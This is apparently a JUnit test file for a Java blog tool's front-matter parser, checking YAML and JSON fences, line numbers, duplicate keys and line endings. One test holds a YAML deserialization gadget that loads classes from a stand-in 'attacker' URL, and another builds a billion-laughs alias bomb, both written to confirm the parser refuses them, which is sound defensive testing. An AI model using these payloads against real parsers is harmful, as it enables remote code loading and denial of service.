package io.github.blogmaven.model.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.blogmaven.model.ContentProblem;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

@DisplayName("Front matter is split and parsed as hexo-front-matter does")
class FrontMatterParserTest {
    private final List<String> warnings = new ArrayList<>();
    private final Problems problems = new Problems();

    private ParsedSource parse(String text) {
        YamlParser yaml = new YamlParser(new DateReader(ZoneOffset.UTC)::yamlTimestamp);
        return new FrontMatterParser(yaml, warnings::add).parse("source/_posts/a.md", text, problems);
    }

    private static Map<String, Object> values(ParsedSource parsed) {
        return parsed.frontMatter().values();
    }

    @Nested
    @DisplayName("YAML between --- fences")
    class Yaml {
        @Test
        @DisplayName("keys are kept in order with the line each is on (the opening fence is line 1)")
        void keysInOrderWithLines() {
            ParsedSource parsed = parse("---\ntitle: Hello\nauthor: 胖芮\navatar: /a.png\n---\nBody\n");
            assertEquals(List.of("title", "author", "avatar"), List.copyOf(values(parsed).keySet()));
            assertEquals(Map.of("title", 2, "author", 3, "avatar", 4), parsed.frontMatter().lines());
            assertEquals("Body\n", parsed.body());
            assertEquals(6, parsed.contentLine());
        }

        @Test
        @DisplayName("a fence may be longer than three dashes, and the closing one must repeat it")
        void longFence() {
            ParsedSource parsed = parse("-----\ntitle: a\nnote: |\n  ---\n-----\nBody\n---\nMore");
            assertEquals("a", values(parsed).get("title"));
            assertEquals("---", values(parsed).get("note"));
            assertEquals("Body\n---\nMore", parsed.body());
            assertEquals(6, parsed.contentLine());
        }

        @Test
        @DisplayName("leading tabs become two spaces each")
        void tabs() {
            ParsedSource parsed = parse("---\ntags:\n\t- a\n\t- b\n---\n");
            assertEquals(List.of("a", "b"), values(parsed).get("tags"));
            assertTrue(problems.isEmpty());
        }

        @Test
        @DisplayName("an opening fence never closed leaves the whole file as the body, with a warning")
        void unclosed() {
            ParsedSource parsed = parse("---\ntitle: a\nBody");
            assertTrue(values(parsed).isEmpty());
            assertEquals("---\ntitle: a\nBody", parsed.body());
            assertEquals(1, parsed.contentLine());
            assertEquals(1, warnings.size());
            assertTrue(warnings.get(0).startsWith("source/_posts/a.md: the front matter opened on line 1"));
        }

        @Test
        @DisplayName("empty front matter is allowed")
        void empty() {
            ParsedSource parsed = parse("---\n---\nBody");
            assertTrue(values(parsed).isEmpty());
            assertEquals("Body", parsed.body());
            assertEquals(3, parsed.contentLine());
        }

        @Test
        @DisplayName("YAML that is not a map makes the whole file the body")
        void notAMap() {
            ParsedSource parsed = parse("---\njust text\n---\nBody");
            assertTrue(values(parsed).isEmpty());
            assertEquals("---\njust text\n---\nBody", parsed.body());
            assertTrue(problems.isEmpty());
        }

        @Test
        @DisplayName("a syntax error is a problem at the file's line and column")
        void syntaxError() {
            parse("---\ntitle: a\ndate: [2017\nmore: b\n---\n");
            ContentProblem problem = problems.list().get(0);
            assertEquals("source/_posts/a.md", problem.path());
            assertTrue(problem.line() >= 3, problem.toString());
            assertTrue(problem.column() > 0, problem.toString());
            assertTrue(problem.message().startsWith("invalid YAML: "), problem.toString());
        }

        @Test
        @DisplayName("a repeated key is a problem on the second one's line")
        void duplicateKey() {
            parse("---\ntitle: a\nauthor: b\ntitle: c\n---\n");
            ContentProblem problem = problems.list().get(0);
            assertEquals(4, problem.line());
            assertEquals("title", problem.key());
            assertEquals("is repeated (first on line 2)", problem.message());
        }

        @Test
        @DisplayName("merge keys and aliases work within the limits")
        void mergeKeys() {
            ParsedSource parsed = parse("---\nbase: &base {author: a, lang: en}\n<<: *base\nlang: de\n---\n");
            assertEquals("a", values(parsed).get("author"));
            assertEquals("de", values(parsed).get("lang"));
            assertTrue(problems.isEmpty());
        }

        @Test
        @DisplayName("a global tag such as !!javax.script.ScriptEngineManager is refused")
        void globalTag() {
            parse("---\ntitle: a\nx: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                    + "[[!!java.net.URL [\"http://attacker/\"]]]]\n---\n");
            assertEquals(1, problems.size());
            ContentProblem problem = problems.list().get(0);
            assertEquals(3, problem.line(), problem.toString());
            assertTrue(problem.message().contains("javax.script.ScriptEngineManager"), problem.toString());
        }

        @Test
        @DisplayName("a local tag without a safe constructor is refused")
        void localTag() {
            parse("---\ntitle: !custom a\n---\n");
            assertEquals(1, problems.size());
            assertEquals("title", problems.list().get(0).key());
        }

        @Test
        @DisplayName("a billion-laughs alias bomb is stopped by the alias limit")
        void aliasBomb() {
            StringBuilder yaml = new StringBuilder("---\na: &a [x, x, x, x, x, x, x, x, x]\n");
            char previous = 'a';
            for (char c = 'b'; c <= 'j'; c++) {
                yaml.append(c).append(": &").append(c).append(" [");
                for (int i = 0; i < 9; i++) {
                    yaml.append(i == 0 ? "" : ", ").append('*').append(previous);
                }
                yaml.append("]\n");
                previous = c;
            }
            parse(yaml.append("---\n").toString());
            assertTrue(!problems.isEmpty());
        }
    }

    @Nested
    @DisplayName("without an opening fence")
    class Fenceless {
        @Test
        @DisplayName("the first --- line ends front matter when the text above it is a map")
        void frontMatter() {
            ParsedSource parsed = parse("title: x\ndate: 2017-10-14\n---\nBody\n---\nMore");
            assertEquals("x", values(parsed).get("title"));
            assertEquals(Map.of("title", 1, "date", 2), parsed.frontMatter().lines());
            assertEquals("Body\n---\nMore", parsed.body());
            assertEquals(4, parsed.contentLine());
        }

        @Test
        @DisplayName("a Markdown rule below prose leaves the whole file as the body")
        void rule() {
            String text = "# Heading\n\nSome prose.\n\n---\n\nMore prose.";
            ParsedSource parsed = parse(text);
            assertTrue(values(parsed).isEmpty());
            assertEquals(text, parsed.body());
            assertEquals(1, parsed.contentLine());
            assertTrue(problems.isEmpty());
        }

        @Test
        @DisplayName("text above the rule that is not valid YAML is body, not a problem")
        void invalidYamlAbove() {
            String text = "a: b: c\n---\nBody";
            assertEquals(text, parse(text).body());
            assertTrue(problems.isEmpty());
        }

        @Test
        @DisplayName("no fence at all: everything is body")
        void noFence() {
            ParsedSource parsed = parse("Just a body.\n");
            assertEquals("Just a body.\n", parsed.body());
            assertEquals(1, parsed.contentLine());
        }
    }

    @Nested
    @DisplayName("JSON between ;;; fences")
    class Json {
        @Test
        @DisplayName("is read as {raw}, keys in order")
        void json() {
            ParsedSource parsed = parse(";;;\n\"title\": \"Hello\",\n\"tags\": [\"a\", \"b\"],\n\"count\": 3\n;;;\nBody");
            assertEquals(Map.of("title", "Hello", "tags", List.of("a", "b"), "count", 3), values(parsed));
            assertEquals(List.of("title", "tags", "count"), List.copyOf(values(parsed).keySet()));
            assertEquals(Map.of("title", 2, "tags", 3, "count", 4), parsed.frontMatter().lines());
            assertEquals("Body", parsed.body());
            assertEquals(6, parsed.contentLine());
        }

        @Test
        @DisplayName("also works without the opening fence")
        void fenceless() {
            ParsedSource parsed = parse("\"title\": \"Hello\"\n;;;\nBody");
            assertEquals("Hello", values(parsed).get("title"));
            assertEquals("Body", parsed.body());
        }

        @Test
        @DisplayName("invalid JSON in fences is a problem")
        void invalid() {
            parse(";;;\n\"title\": \"Hello\",,\n;;;\nBody");
            assertEquals(1, problems.size());
            assertEquals(2, problems.list().get(0).line());
        }
    }

    @Test
    @DisplayName("CRLF and CR line endings become LF, and a UTF-8 byte-order mark is dropped")
    void lineEndingsAndBom() {
        byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
        byte[] body = "---\r\ntitle: a\r\n---\r\nline 1\rline 2\r\n".getBytes(java.nio.charset.StandardCharsets.UTF_8);
        byte[] all = new byte[bom.length + body.length];
        System.arraycopy(bom, 0, all, 0, bom.length);
        System.arraycopy(body, 0, all, bom.length, body.length);
        ParsedSource parsed = parse(SourceText.decode("source/_posts/a.md", all, problems));
        assertEquals("a", values(parsed).get("title"));
        assertEquals("line 1\nline 2\n", parsed.body());
        assertEquals(4, parsed.contentLine());
    }
}
